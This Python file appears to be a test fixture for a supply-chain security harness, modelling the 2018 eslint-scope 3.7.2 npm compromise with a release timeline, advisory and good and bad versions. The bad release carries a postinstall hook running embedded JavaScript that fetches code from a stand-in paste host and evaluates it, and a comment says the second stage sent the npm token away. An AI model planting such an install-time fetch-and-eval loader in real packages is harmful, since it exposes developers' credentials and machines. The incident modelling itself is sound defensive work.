"""eslint-scope 3.7.2 (2018-07-12): a maintainer's reused password; a postinstall fetches code, evaluates it, sends the npm token.

By the record: published 10:40:00 UTC under the maintainer's own account, down at 12:37; 3.7.3 at 17:41 is the clean one. The
listing of releases before and after is the recorded one.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_ANALYZE = "exports.analyze = function (tree, options) { return { tree: tree, options: options }; };\n"
_CLEAN = {"lib/index.js": _ANALYZE}
# The release fetched its second stage from a paste site and evaluated it; the second stage read .npmrc and sent it away.
_FETCHES = """try {
  var https = require('https');
  https.get({ hostname: 'paste.invalid', path: '/raw/marker', headers: { 'User-Agent': 'Mozilla/5.0' } }, (answer) => {
    answer.setEncoding('utf8');
    answer.on('data', (text) => { eval(text); });
    answer.on('error', () => {});
  }).on('error', () => {});
} catch (error) {}
"""
_MAIN = {"main": "lib/index.js"}
_THREE = ("eslint", "ivolodin", "nzakas")


def _release(version: str, at: str, publisher: str, maintainers: tuple[str, ...] = _THREE) -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher=publisher,
        maintainers=maintainers,
        files=_CLEAN,
        more=_MAIN,
    )


_BAD = Release(
    version="3.7.2",
    at=utc("2018-07-12T10:40:00.478Z"),
    publisher="eslint",
    maintainers=_THREE,
    files={**_CLEAN, "lib/build.js": _FETCHES},
    scripts={"postinstall": "node ./lib/build.js"},
    more=_MAIN,
)

INCIDENT = Incident(
    id="eslint-scope-2018",
    title=(
        "an attacker with a reused password added a postinstall script to eslint-scope; it downloads and evaluates "
        "code that steals the npm token"
    ),
    copy=(
        "our copy of eslint-scope has the same script; the second stage exists only in [the token "
        "trial](gauntlet.md#the-token)"
    ),
    ecosystem=Ecosystem.NPM,
    at=_BAD.at,
    packages=(
        Package(
            name="eslint-scope",
            releases=(
                _release("3.7.0", "2017-03-17T22:10:11.109Z", "ivolodin", ("ivolodin",)),
                _release("3.7.1", "2017-04-12T21:13:31.158Z", "ivolodin"),
                _release("4.0.0-alpha.0", "2018-04-28T01:47:18.036Z", "eslint"),
                _release("4.0.0-rc.0", "2018-06-09T15:59:17.350Z", "eslint"),
                _release("4.0.0", "2018-06-21T20:41:41.408Z", "eslint"),
                _BAD,
                _release("3.7.3", "2018-07-12T17:41:22.504Z", "not-an-aardvark"),
            ),
        ),
    ),
    asks={"eslint-scope": "^3.7.1"},
    good={"eslint-scope": "3.7.1"},
    bad={"eslint-scope": ("3.7.2",)},
    guilty={"eslint-scope": ("3.7.2",)},
    gone_at=utc("2018-07-12T12:37:00"),
    advisory=Advisory(id="npm-advisory", at=utc("2018-07-12T18:42:00"), about={"eslint-scope": ("3.7.2",)}),
    invented=(
        "the account of 3.7.2; the time of the advisory is that of the token revocation; dependencies are left out"
    ),
)
